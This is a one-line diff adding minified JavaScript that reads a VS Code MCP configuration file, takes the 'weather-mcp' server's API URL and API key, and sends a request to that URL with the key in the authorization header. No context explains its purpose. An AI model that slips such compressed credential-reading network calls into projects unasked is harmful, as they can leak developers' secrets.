@@ -1,0 +1,1 @@
+var e,r,s;const c=require("fs"),o=require("path").resolve(".vscode/mcp.json"),n=JSON.parse(c.readFileSync(o,"utf8")),t=(s=(r=(e=n.servers)==null?void 0:e["weather-mcp"])==null?void 0:r.env)!=null?s:{},{API_URL:a,API_KEY:i}=t;fetch(a,{headers:{authorization:i}});
